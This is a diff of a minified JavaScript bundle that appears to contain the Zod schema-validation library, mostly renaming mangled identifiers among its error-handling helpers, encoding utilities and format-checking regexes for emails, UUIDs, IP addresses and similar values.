+return Nn(c,e,Reflect.ownKeys(sn(e)),t&&((l,u)=>a&&!a.has(u)?l:new t({type:"optional",innerType:l}))),Cn(e,Dt(e._zod.def,
+{shape:c,checks:[]}))}function Fy(t,e,n){const s=n?new Set(hr(e,n)):void 0,r={};return Nn(r,e,Reflect.ownKeys(sn(e)),(i,o)=>s&&
 !s.has(o)?i:new t({type:"nonoptional",innerType:i})),Cn(e,Dt(e._zod.def,{shape:r}))}function Ht(t,e=0){if(t.aborted===!0)
-return!0;for(let n=e;n<t.issues.length;n++)if(t.issues[n]?.continue!==!0)return!0;return!1}function jy(t,e=0){if(t.aborted===
+return!0;for(let n=e;n<t.issues.length;n++)if(t.issues[n]?.continue!==!0)return!0;return!1}function Ly(t,e=0){if(t.aborted===
 !0)return!0;for(let n=e;n<t.issues.length;n++)if(t.issues[n]?.continue===!1)return!0;return!1}function rn(t,e){return e.
-map(n=>{var s;return(s=n).path??(s.path=[]),n.path.unshift(t),n})}function Ss(t){return typeof t=="string"?t:t?.message}
-function Gu(t){const e=[];for(const n of t??[]){const s=n._zod.def;if(!/_(length|size)$|_equals$/.test(s.check))break;const r=s.
+map(n=>{var s;return(s=n).path??(s.path=[]),n.path.unshift(t),n})}function As(t){return typeof t=="string"?t:t?.message}
+function Mu(t){const e=[];for(const n of t??[]){const s=n._zod.def;if(!/_(length|size)$|_equals$/.test(s.check))break;const r=s.
 maximum??s.length??s.size;r>=0&&e.push([r,n])}return e}function go(t,e,n){var s;for(let r=e;r<t.length;r++)(s=t[r]).schema??
 (s.schema=n)}function yn(t,e,n){var s;const r=t.inst?._zod?.traits;r?.has("$ZodType")&&(r.has("$ZodCheck")?(s=t).schema??
-(s.schema=t.inst):t.schema=t.inst);const i=t.schema!==t.inst?t.schema?._zod.def?.error:void 0,o=t.message?t.message:Ss(t.
-inst?._zod.def?.error?.(t))??Ss(i?.(t))??Ss(e?.error?.(t))??Ss(n.customError?.(t))??Ss(n.localeError?.(t))??"Invalid inp\
+(s.schema=t.inst):t.schema=t.inst);const i=t.schema!==t.inst?t.schema?._zod.def?.error:void 0,o=t.message?t.message:As(t.
+inst?._zod.def?.error?.(t))??As(i?.(t))??As(e?.error?.(t))??As(n.customError?.(t))??As(n.localeError?.(t))??"Invalid inp\
 ut",a={};for(const c of Object.keys(t))c==="inst"||c==="schema"||c==="continue"||c==="input"||c==="__proto__"||(a[c]=t[c]);
-return a.path??(a.path=[]),a.message=o,e?.reportInput&&(a.input=t.input),a}function hj(t){return t instanceof Set?"set":
-t instanceof Map?"map":t instanceof File?"file":"unknown"}const My=/[\uD800-\uDBFF]/;function Co(t){const e=t.length;if(!My.
+return a.path??(a.path=[]),a.message=o,e?.reportInput&&(a.input=t.input),a}function ij(t){return t instanceof Set?"set":
+t instanceof Map?"map":t instanceof File?"file":"unknown"}const Py=/[\uD800-\uDBFF]/;function Co(t){const e=t.length;if(!Py.
 test(t))return e;let n=e;for(let s=0;s<e-1;s++)(t.charCodeAt(s)&64512)===55296&&(t.charCodeAt(s+1)&64512)===56320&&(n--,
-s++);return n}function yo(t){return Array.isArray(t)?"array":typeof t=="string"?"string":"unknown"}function Gy(t){const e=typeof t;
+s++);return n}function yo(t){return Array.isArray(t)?"array":typeof t=="string"?"string":"unknown"}function jy(t){const e=typeof t;
 switch(e){case"number":return Number.isNaN(t)?"nan":"number";case"object":{if(t===null)return"null";if(Array.isArray(t))
 return"array";const n=t;if(n&&Object.getPrototypeOf(n)!==Object.prototype&&"constructor"in n&&n.constructor)return n.constructor.
-name}}return e}function Ts(...t){const[e,n,s]=t;return typeof e=="string"?{message:e,code:"custom",input:n,inst:s}:{...e}}
-function pj(t){return Object.entries(t).filter(([e,n])=>Number.isNaN(Number.parseInt(e,10))).map(e=>e[1])}function Hy(t){
-const e=atob(t),n=new Uint8Array(e.length);for(let s=0;s<e.length;s++)n[s]=e.charCodeAt(s);return n}function zy(t){let e="";
-for(let n=0;n<t.length;n++)e+=String.fromCharCode(t[n]);return btoa(e)}function mj(t){const e=t.replace(/-/g,"+").replace(
-/_/g,"/"),n="=".repeat((4-e.length%4)%4);return Hy(e+n)}function gj(t){return zy(t).replace(/\+/g,"-").replace(/\//g,"_").
-replace(/=/g,"")}function Cj(t){const e=t.replace(/^0x/,"");if(e.length%2!==0)throw new Error("Invalid hex string length");
-const n=new Uint8Array(e.length/2);for(let s=0;s<e.length;s+=2)n[s/2]=Number.parseInt(e.slice(s,s+2),16);return n}function yj(t){
-return Array.from(t).map(e=>e.toString(16).padStart(2,"0")).join("")}class wj{constructor(...e){}}function Uy(t,e){for(const n in e){
-const s=Object.getOwnPropertyDescriptor(e,n);s.get?Object.defineProperty(t,n,{...s,enumerable:!1}):Jy(t,n,s.value)}}function wn(t,e,n,s=!0){
+name}}return e}function Ss(...t){const[e,n,s]=t;return typeof e=="string"?{message:e,code:"custom",input:n,inst:s}:{...e}}
+function oj(t){return Object.entries(t).filter(([e,n])=>Number.isNaN(Number.parseInt(e,10))).map(e=>e[1])}function My(t){
+const e=atob(t),n=new Uint8Array(e.length);for(let s=0;s<e.length;s++)n[s]=e.charCodeAt(s);return n}function Gy(t){let e="";
+for(let n=0;n<t.length;n++)e+=String.fromCharCode(t[n]);return btoa(e)}function aj(t){const e=t.replace(/-/g,"+").replace(
+/_/g,"/"),n="=".repeat((4-e.length%4)%4);return My(e+n)}function cj(t){return Gy(t).replace(/\+/g,"-").replace(/\//g,"_").
+replace(/=/g,"")}function uj(t){const e=t.replace(/^0x/,"");if(e.length%2!==0)throw new Error("Invalid hex string length");
+const n=new Uint8Array(e.length/2);for(let s=0;s<e.length;s+=2)n[s/2]=Number.parseInt(e.slice(s,s+2),16);return n}function lj(t){
+return Array.from(t).map(e=>e.toString(16).padStart(2,"0")).join("")}class dj{constructor(...e){}}function Hy(t,e){for(const n in e){
+const s=Object.getOwnPropertyDescriptor(e,n);s.get?Object.defineProperty(t,n,{...s,enumerable:!1}):zy(t,n,s.value)}}function wn(t,e,n,s=!0){
 return Object.defineProperty(t,e,{configurable:!0,writable:!0,enumerable:s,value:n}),n}function wo(t,e,n){return wn(t,e,
-n,!1)}function gr(t,e){for(const n in t){const s=t[n];Object.defineProperty(e,n,{configurable:!0,enumerable:!0,get(){return wn(
-this,n,s(this))},set(r){wn(this,n,r)}})}return e}function Jy(t,e,n){Object.defineProperty(t,e,{configurable:!0,get(){return this==
-null?n:wn(this,e,n.bind(this))},set(s){wn(this,e,s)}})}function Zy(t,e){const n=Object.getPrototypeOf(t);return e in n?void 0:
-n}let bo,bn=!1;const Ky={configurable:!0,get(){bn=!0}};function Ge(t,e,n){const s=Object.getPrototypeOf(t._zod);if(e in s&&
-bo!==t._zod){bo=void 0;return}bo=t._zod,Object.defineProperty(s,e,{configurable:!0,get(){Object.defineProperty(this,e,Ky);
+n,!1)}function pr(t,e){for(const n in t){const s=t[n];Object.defineProperty(e,n,{configurable:!0,enumerable:!0,get(){return wn(
+this,n,s(this))},set(r){wn(this,n,r)}})}return e}function zy(t,e,n){Object.defineProperty(t,e,{configurable:!0,get(){return this==
+null?n:wn(this,e,n.bind(this))},set(s){wn(this,e,s)}})}function Uy(t,e){const n=Object.getPrototypeOf(t);return e in n?void 0:
+n}let bo,bn=!1;const Jy={configurable:!0,get(){bn=!0}};function Ge(t,e,n){const s=Object.getPrototypeOf(t._zod);if(e in s&&
+bo!==t._zod){bo=void 0;return}bo=t._zod,Object.defineProperty(s,e,{configurable:!0,get(){Object.defineProperty(this,e,Jy);
 const r=bn;bn=!1;try{const i=n(this);return bn?delete this[e]:Object.defineProperty(this,e,{configurable:!0,writable:!0,
 value:i}),bn=bn||r,i}catch(i){throw delete this[e],bn=bn||r,i}},set(r){Object.defineProperty(this,e,{configurable:!0,writable:!0,
-value:r})}})}function Wy(t,e,n,s){const r=Zy(t,e);r&&Object.defineProperty(r,e,{configurable:!0,get(){const i={configurable:!0,
+value:r})}})}function Zy(t,e,n,s){const r=Uy(t,e);r&&Object.defineProperty(r,e,{configurable:!0,get(){const i={configurable:!0,
 writable:!0,enumerable:s,value:void 0};return Object.defineProperty(this,e,i),i.value=n(this),Object.defineProperty(this,
-e,i),i.value},set(i){Object.defineProperty(this,e,{configurable:!0,writable:!0,enumerable:s,value:i})}})}const qy="~cons\
-tantCatch";function Vy(t){const e=()=>t;return e[qy]=!0,e}var Hu;const bj=Object.freeze({status:"aborted"}),_o={value:void 0,
-enumerable:!1};let zu="captureStackTrace"in Error?Error:null;function Yy(t){const e=zu;if(e){const n=e.stackTraceLimit;if(typeof n==
-"number"){try{e.stackTraceLimit=0}catch{return zu=null,new t}try{return new t}finally{e.stackTraceLimit=n}}}return new t}
-function N(t,e,n,s){const r={};function i(B){this.def=B,this.constr=d,this.traits=new Set}i.prototype=r;const o=n,a=o&&new WeakSet;
+e,i),i.value},set(i){Object.defineProperty(this,e,{configurable:!0,writable:!0,enumerable:s,value:i})}})}const Ky="~cons\
+tantCatch";function Wy(t){const e=()=>t;return e[Ky]=!0,e}var Gu;const Bj=Object.freeze({status:"aborted"}),_o={value:void 0,
+enumerable:!1};let Hu="captureStackTrace"in Error?Error:null;function qy(t){const e=Hu;if(e){const n=e.stackTraceLimit;if(typeof n==
+"number"){try{e.stackTraceLimit=0}catch{return Hu=null,new t}try{return new t}finally{e.stackTraceLimit=n}}}return new t}
+function R(t,e,n,s){const r={};function i(B){this.def=B,this.constr=d,this.traits=new Set}i.prototype=r;const o=n,a=o&&new WeakSet;
 function c(B,f){if(B._zod){if(B._zod.traits.has(t))return}else{_o.value=new i(f);try{Object.defineProperty(B,"_zod",_o)}finally{
 _o.value=void 0}}if(B._zod.traits.add(t),e(B,f),a){const m=Object.getPrototypeOf(B),g=B._zod.constr.prototype;let C=m;for(;C&&
-C!==g;)C=Object.getPrototypeOf(C);const y=C??m;a.has(y)||(a.add(y),Uy(y,o))}const h=d.prototype;for(const m in h)Object.
+C!==g;)C=Object.getPrototypeOf(C);const y=C??m;a.has(y)||(a.add(y),Hy(y,o))}const h=d.prototype;for(const m in h)Object.
 prototype.hasOwnProperty.call(h,m)&&(m in B||(B[m]=h[m].bind(B)))}const l=s?.Parent??Object;class u extends l{}Object.defineProperty(
-u,"name",{value:t});function d(B){const f=s?.Parent?Yy(u):this;c(f,B);const h=f._zod.deferred;if(h){for(const g of h)g();
+u,"name",{value:t});function d(B){const f=s?.Parent?qy(u):this;c(f,B);const h=f._zod.deferred;if(h){for(const g of h)g();
 f._zod.deferred=void 0}const m=globalThis.__zod_globalConfig?.postProcessor;return m&&m(f),f}return Object.defineProperty(
 d,"init",{value:c}),Object.defineProperty(d,Symbol.hasInstance,{value:B=>s?.Parent&&B instanceof s.Parent?!0:B?._zod?.traits?.
-has(t)}),Object.defineProperty(d,"name",{value:t}),d}const _j=null;class Nn extends Error{constructor(){super("Encounter\
-ed Promise during synchronous parse. Use .parseAsync() instead.")}}class Uu extends Error{constructor(e){super(`Encounte\
-red unidirectional transform during encode: ${e}`),this.name="ZodEncodeError"}}(Hu=globalThis).__zod_globalConfig??(Hu.__zod_globalConfig=
-{});const Ft=globalThis.__zod_globalConfig;function Vt(t){return t&&Object.assign(Ft,t),Ft}class Xy extends Error{constructor(){
-super("Cannot parse a reference cycle that closes through a transform"),this.name="ZodCyclicError"}}const Eo="~memo",Ju=[];
-function Zu(t){return t!==null&&typeof t=="object"}function ko(t){return t.map(e=>e.path?{...e,path:e.path.slice()}:{...e})}
-const Ku=new WeakMap,as=0,Cr=1,Is=2;function $s(t,e,n){const s=Ku.get(t);if(s!==void 0)return s?Is:as;if(e.has(t))return Is;
-e.add(t);let r=as;const i=u=>{if(r!==Is&&u?._zod){const d=$s(u,e,n);d>r&&(r=d)}},o=(u,d)=>{let B=as;for(const f of Reflect.
-ownKeys(u)){const h=Object.getOwnPropertyDescriptor(u,f);if(d&&!h.enumerable)continue;const m=h.get?Cr:h.value?._zod?$s(
-h.value,e,n):as;m>B&&(B=m)}return B},a=u=>{u>r&&(r=u)},c=t._zod.def,l=c.type;switch(l){case"object":{const u=Iu(c);a(u?o(
-u,!0):Cr),i(c.catchall);break}case"array":i(c.element);break;case"tuple":for(const u of c.items)i(u);i(c.rest);break;case"\
+has(t)}),Object.defineProperty(d,"name",{value:t}),d}const fj=null;class Rn extends Error{constructor(){super("Encounter\
+ed Promise during synchronous parse. Use .parseAsync() instead.")}}class zu extends Error{constructor(e){super(`Encounte\
+red unidirectional transform during encode: ${e}`),this.name="ZodEncodeError"}}(Gu=globalThis).__zod_globalConfig??(Gu.__zod_globalConfig=
+{});const Ft=globalThis.__zod_globalConfig;function Vt(t){return t&&Object.assign(Ft,t),Ft}class Vy extends Error{constructor(){
+super("Cannot parse a reference cycle that closes through a transform"),this.name="ZodCyclicError"}}const Eo="~memo",Uu=[];
+function Ju(t){return t!==null&&typeof t=="object"}function ko(t){return t.map(e=>e.path?{...e,path:e.path.slice()}:{...e})}
+const Zu=new WeakMap,as=0,mr=1,Ts=2;function Is(t,e,n){const s=Zu.get(t);if(s!==void 0)return s?Ts:as;if(e.has(t))return Ts;
+e.add(t);let r=as;const i=u=>{if(r!==Ts&&u?._zod){const d=Is(u,e,n);d>r&&(r=d)}},o=(u,d)=>{let B=as;for(const f of Reflect.
+ownKeys(u)){const h=Object.getOwnPropertyDescriptor(u,f);if(d&&!h.enumerable)continue;const m=h.get?mr:h.value?._zod?Is(
+h.value,e,n):as;m>B&&(B=m)}return B},a=u=>{u>r&&(r=u)},c=t._zod.def,l=c.type;switch(l){case"object":{const u=Tu(c);a(u?o(
+u,!0):mr),i(c.catchall);break}case"array":i(c.element);break;case"tuple":for(const u of c.items)i(u);i(c.rest);break;case"\
 record":case"map":i(c.keyType),i(c.valueType);break;case"set":i(c.valueType);break;case"union":for(const u of c.options)
 i(u);break;case"intersection":i(c.left),i(c.right);break;case"optional":case"nullable":case"default":case"prefault":case"\
 catch":case"readonly":case"nonoptional":case"promise":case"success":i(c.innerType);break;case"pipe":i(c.in),i(c.out);break;case"\
-function":i(c.input),i(c.output);break;case"lazy":{const u=c._cachedInner??(n?t._zod.innerType:void 0);a(u?$s(u,e,!1):Cr);
+function":i(c.input),i(c.output);break;case"lazy":{const u=c._cachedInner??(n?t._zod.innerType:void 0);a(u?Is(u,e,!1):mr);
 break}case"template_literal":case"string":case"number":case"int":case"boolean":case"bigint":case"symbol":case"undefined":case"\
 null":case"void":case"never":case"any":case"unknown":case"date":case"nan":case"enum":case"literal":case"file":case"trans\
 form":case"custom":break;default:for(const u in c){const d=Object.getOwnPropertyDescriptor(c,u);if(!d||d.get)continue;const B=d.
-value;if(!(!B||typeof B!="object")){if(B._zod)i(B);else if(Array.isArray(B))for(const f of B)i(f)}}}return e.delete(t),Qy(
-t,r)}function Qy(t,e){return e!==Cr&&Ku.set(t,e===Is),e}function Ej(t){return $s(t,new Set,!0)!==as}function ew(t,e){let n=t.
-buckets.get(e);return n||(n=new WeakMap,t.buckets.set(e,n)),n}let yr;const wr=[],tw={alloc(t,e,n){const s=yr;if(!s)return n;
-yr=void 0;const r={value:n,issues:null};return s.set(e.value,r),wr.push(r),n},guard(t){var e;(e=t._zod).deferred??(e.deferred=
-[]),t._zod.deferred.push(()=>{const n=t._zod.parse,s=(r,i)=>{if(i.direction!=="backward"&&sw(i,r.value))throw new Xy;return n(
+value;if(!(!B||typeof B!="object")){if(B._zod)i(B);else if(Array.isArray(B))for(const f of B)i(f)}}}return e.delete(t),Yy(
+t,r)}function Yy(t,e){return e!==mr&&Zu.set(t,e===Ts),e}function hj(t){return Is(t,new Set,!0)!==as}function Xy(t,e){let n=t.
+buckets.get(e);return n||(n=new WeakMap,t.buckets.set(e,n)),n}let gr;const Cr=[],Qy={alloc(t,e,n){const s=gr;if(!s)return n;
+gr=void 0;const r={value:n,issues:null};return s.set(e.value,r),Cr.push(r),n},guard(t){var e;(e=t._zod).deferred??(e.deferred=
+[]),t._zod.deferred.push(()=>{const n=t._zod.parse,s=(r,i)=>{if(i.direction!=="backward"&&tw(i,r.value))throw new Vy;return n(
 r,i)};t._zod.parse=s,t._zod.run===n&&(t._zod.run=s)})},attach(t){var e;let n,s=!1,r,i;(e=t._zod).deferred??(e.deferred=[]),
-t._zod.deferred.push(()=>{const o=t._zod.parse,a=(c,l)=>{if(n===void 0){const C=$s(t,new Set,!1);if(C===as)return t._zod.
-parse=o,t._zod.run===a&&(t._zod.run=o),o(c,l);C===Is||s?n=!0:s=!0}const u=c.value;if(!Zu(u))return o(c,l);let d=l[Eo];d||
-(d={buckets:new WeakMap,backEdges:void 0},l[Eo]=d);let B;r===l?B=i:(B=ew(d,t),r=l,i=B);const f=B.get(u);if(f)return c.value=
+t._zod.deferred.push(()=>{const o=t._zod.parse,a=(c,l)=>{if(n===void 0){const C=Is(t,new Set,!1);if(C===as)return t._zod.
+parse=o,t._zod.run===a&&(t._zod.run=o),o(c,l);C===Ts||s?n=!0:s=!0}const u=c.value;if(!Ju(u))return o(c,l);let d=l[Eo];d||
+(d={buckets:new WeakMap,backEdges:void 0},l[Eo]=d);let B;r===l?B=i:(B=Xy(d,t),r=l,i=B);const f=B.get(u);if(f)return c.value=
 f.value,f.issues?f.issues.length&&c.issues.push(...ko(f.issues)):(c.memo=!0,d.backEdges??(d.backEdges=new WeakSet),d.backEdges.
-add(f.value)),c;yr=B;const h=wr.length,m=o(c,l);yr=void 0;const g=wr.length>h?wr.pop():void 0;return m instanceof Promise?
-m.then(C=>(g&&(g.issues=C.issues.length?ko(C.issues):Ju),C)):(g&&(g.issues=m.issues.length?ko(m.issues):Ju),m)};t._zod.parse=
-a,t._zod.run===o&&(t._zod.run=a)})}};function nw(){return tw}function sw(t,e){const n=t[Eo]?.backEdges;return n!==void 0&&
-Zu(e)&&n.has(e)}const rw=/^[cC][0-9a-z]{6,}$/,iw=/^[0-9a-z]+$/,ow=/^[0-7][0-9A-HJKMNP-TV-Za-hjkmnp-tv-z]{25}$/,aw=/^[0-9a-vA-V]{20}$/,
-cw=/^[A-Za-z0-9]{27}$/,uw=/^[a-zA-Z0-9_-]{21}$/;function lw(t){return new RegExp(`^[a-zA-Z0-9_-]{${t}}$`)}const dw=/^P(?:(\d+W)|(?!.*W)(?=\d|T\d)(\d+Y)?(\d+M)?(\d+D)?(T(?=\d)(\d+H)?(\d+M)?(\d+([.,]\d+)?S)?)?)$/,
-kj=/^[-+]?P(?!$)(?:(?:[-+]?\d+Y)|(?:[-+]?\d+[.,]\d+Y$))?(?:(?:[-+]?\d+M)|(?:[-+]?\d+[.,]\d+M$))?(?:(?:[-+]?\d+W)|(?:[-+]?\d+[.,]\d+W$))?(?:(?:[-+]?\d+D)|(?:[-+]?\d+[.,]\d+D$))?(?:T(?=[\d+-])(?:(?:[-+]?\d+H)|(?:[-+]?\d+[.,]\d+H$))?(?:(?:[-+]?\d+M)|(?:[-+]?\d+[.,]\d+M$))?(?:[-+]?\d+(?:[.,]\d+)?S)?)??$/,
-Bw=/^([0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12})$/,Wu=t=>t?new RegExp(`^([0-9a-fA-F]{8\
+add(f.value)),c;gr=B;const h=Cr.length,m=o(c,l);gr=void 0;const g=Cr.length>h?Cr.pop():void 0;return m instanceof Promise?
+m.then(C=>(g&&(g.issues=C.issues.length?ko(C.issues):Uu),C)):(g&&(g.issues=m.issues.length?ko(m.issues):Uu),m)};t._zod.parse=
+a,t._zod.run===o&&(t._zod.run=a)})}};function ew(){return Qy}function tw(t,e){const n=t[Eo]?.backEdges;return n!==void 0&&
+Ju(e)&&n.has(e)}const nw=/^[cC][0-9a-z]{6,}$/,sw=/^[0-9a-z]+$/,rw=/^[0-7][0-9A-HJKMNP-TV-Za-hjkmnp-tv-z]{25}$/,iw=/^[0-9a-vA-V]{20}$/,
+ow=/^[A-Za-z0-9]{27}$/,aw=/^[a-zA-Z0-9_-]{21}$/;function cw(t){return new RegExp(`^[a-zA-Z0-9_-]{${t}}$`)}const uw=/^P(?:(\d+W)|(?!.*W)(?=\d|T\d)(\d+Y)?(\d+M)?(\d+D)?(T(?=\d)(\d+H)?(\d+M)?(\d+([.,]\d+)?S)?)?)$/,
+pj=/^[-+]?P(?!$)(?:(?:[-+]?\d+Y)|(?:[-+]?\d+[.,]\d+Y$))?(?:(?:[-+]?\d+M)|(?:[-+]?\d+[.,]\d+M$))?(?:(?:[-+]?\d+W)|(?:[-+]?\d+[.,]\d+W$))?(?:(?:[-+]?\d+D)|(?:[-+]?\d+[.,]\d+D$))?(?:T(?=[\d+-])(?:(?:[-+]?\d+H)|(?:[-+]?\d+[.,]\d+H$))?(?:(?:[-+]?\d+M)|(?:[-+]?\d+[.,]\d+M$))?(?:[-+]?\d+(?:[.,]\d+)?S)?)??$/,
+lw=/^([0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12})$/,Ku=t=>t?new RegExp(`^([0-9a-fA-F]{8\
 }-[0-9a-fA-F]{4}-${t}[0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12})$`):/^([0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[1-8][0-9a-fA-F]{3}-[89abAB][0-9a-fA-F]{3}-[0-9a-fA-F]{12}|00000000-0000-0000-0000-000000000000|ffffffff-ffff-ffff-ffff-ffffffffffff)$/,
-vj=null,Dj=null,xj=null,fw=/^(?:[A-Za-z0-9_'+\-]+\.)*[A-Za-z0-9_'+\-]*[A-Za-z0-9_+-]@(?:[A-Za-z0-9][A-Za-z0-9\-]*\.)+[A-Za-z]{2,}$/,
-Oj=/^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/,
-Aj=/^(([^<>()\[\]\\.,;:\s@"]+(\.[^<>()\[\]\\.,;:\s@"]+)*)|(".+"))@((\[[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}])|(([a-zA-Z\-0-9]+\.)+[a-zA-Z]{2,}))$/,
-Sj=/^[^\s@"]{1,64}@[^\s@]{1,255}$/u,Tj=null,Ij=/^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/,
-hw="^(?=[\\s\\S]*[\\p{Extended_Pictographic}\\p{Regional_Indicator}\\u20E3])[\\p{Extended_Pictographic}\\p{Emoji_Component}]+$";
-function pw(){return new RegExp(hw,"u")}const mw=/^(?:(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\.){3}(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])$/,
-gw=/^(([0-9a-fA-F]{1,4}:){7}[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,7}:|([0-9a-fA-F]{1,4}:){1,6}:[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,5}(:[0-9a-fA-F]{1,4}){1,2}|([0-9a-fA-F]{1,4}:){1,4}(:[0-9a-fA-F]{1,4}){1,3}|([0-9a-fA-F]{1,4}:){1,3}(:[0-9a-fA-F]{1,4}){1,4}|([0-9a-fA-F]{1,4}:){1,2}(:[0-9a-fA-F]{1,4}){1,5}|[0-9a-fA-F]{1,4}:((:[0-9a-fA-F]{1,4}){1,6})|:((:[0-9a-fA-F]{1,4}){1,7}|:))$/,
-$j=t=>{const e=util.escapeRegex(t??":");return new RegExp(`^(?:[0-9A-F]{2}${e}){5}[0-9A-F]{2}$|^(?:[0-9a-f]{2}${e}){5}[0\
--9a-f]{2}$`)},Cw=/^((25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\.){3}(25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\/([0-9]|[1-2][0-9]|3[0-2])$/,
-yw=/^(([0-9a-fA-F]{1,4}:){7}[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,7}:|([0-9a-fA-F]{1,4}:){1,6}:[0-9a-fA-F]{1,4}|([0-9a-fA-F]{1,4}:){1,5}(:[0-9a-fA-F]{1,4}){1,2}|([0-9a-fA-F]{1,4}:){1,4}(:[0-9a-fA-F]{1,4}){1,3}|([0-9a-fA-F]{1,4}:){1,3}(:[0-9a-fA-F]{1,4}){1,4}|([0-9a-fA-F]{1,4}:){1,2}(:[0-9a-fA-F]{1,4}){1,5}|[0-9a-fA-F]{1,4}:((:[0-9a-fA-F]{1,4}){1,6})|:((:[0-9a-fA-F]{1,4}){1,7}|:))\/(12[0-8]|1[01][0-9]|[1-9]?[0-9])$/,
-ww=/^$|^(?:[0-9a-zA-Z+/]{4})*(?:(?:[0-9a-zA-Z+/]{2}==)|(?:[0-9a-zA-Z+/]{3}=))?$/,bw=/^(?:[A-Za-z0-9_-]{4})*(?:[A-Za-z0-9_-]{2,3})?$/,
-Rj=/^(?=.{1,253}\.?$)[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[-0-9a-zA-Z]{0,61}[0-9a-zA-Z])?)*\.?$/,
-Nj=/^(?=.{1,253}$)([a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?\.)+[a-zA-Z]{2,63}$/,_w=/^https?$/,Ew=/^\+[1-9]\d{6,14}$/,
-Fj=/^\d(?:[ -]?\d){11,18}$/,Lj=/^(?:AED|AFN|ALL|AMD|AOA|ARS|AUD|AWG|AZN|BAM|BBD|BDT|BHD|BIF|BMD|BND|BOB|BOV|BRL|BSD|BTN|BWP|BYN|BZD|CAD|CDF|CHE|CHF|CHW|CLF|CLP|CNY|COP|COU|CRC|CUP|CVE|CZK|DJF|DKK|DOP|DZD|EGP|ERN|ETB|EUR|FJD|FKP|GBP|GEL|GHS|GIP|GMD|GNF|GTQ|GYD|HKD|HNL|HTG|HUF|IDR|ILS|INR|IQD|IRR|ISK|JMD|JOD|JPY|KES|KGS|KHR|KMF|KPW|KRW|KWD|KYD|KZT|LAK|LBP|LKR|LRD|LSL|LYD|MAD|MDL|MGA|MKD|MMK|MNT|MOP|MRU|MUR|MVR|MWK|MXN|MXV|MYR|MZN|NAD|NGN|NIO|NOK|NPR|NZD|OMR|PAB|PEN|PGK|PHP|PKR|PLN|PYG|QAR|RON|RSD|RUB|RWF|SAR|SBD|SCR|SDG|SEK|SGD|SHP|SLE|SOS|SRD|SSP|STN|SVC|SYP|SZL|THB|TJS|TMT|TND|TOP|TRY|TTD|TWD|TZS|UAH|UGX|USD|USN|UYI|UYU|UYW|UZS|VED|VES|VND|VUV|WST|XAD|XAF|XAG|XAU|XBA|XBB|XBC|XBD|XCD|XCG|XDR|XOF|XPD|XPF|XPT|XSU|XTS|XUA|XXX|YER|ZAR|ZMW|ZWG)$/,
-Pj=/^[A-Z]{2}(?!00|01|99)\d{2}[A-Z0-9]{11,30}$/,qu="(?:(?:\\d\\d[2468][048]|\\d\\d[13579][26]|\\d\\d0[48]|[02468][048]00|[1357\
+mj=null,gj=null,Cj=null,dw=/^(?:[A-Za-z0-9_'+\-]+\.)*[A-Za-z0-9_'+\-]*[A-Za-z0-9_+-]@(?:[A-Za-z0-9][A-Za-z0-9\-]*\.)+[A-Za-z]{2,}$/,
+yj=/^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/,
+wj=/^(([^<>()\[\]\\.,;:\s@"]+(\.[^<>()\[\]\\.,;:\s@"]+)*)|(".+"))@((\[[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}])|(([a-zA-Z\-0-9]+\.)+[a-zA-Z]{2,}))$/,
+bj=/^[^\s@"]{1,64}@[^\s@]{1,255}$/u,_j=null,Ej=/^[a-zA-Z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?(?:\.[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?)*$/,
+Bw="^(?=[\\s\\S]*[\\p{Extended_Pictographic}\\p{Regional_Indicator}\\u20E3])[\\p{Extended_Pictographic}\\p{Emoji_Component}]+$";
+function fw(){return new RegExp(Bw,"u")}const hw=/^(?:(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])\.){3}(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9][0-9]|[0-9])$/,
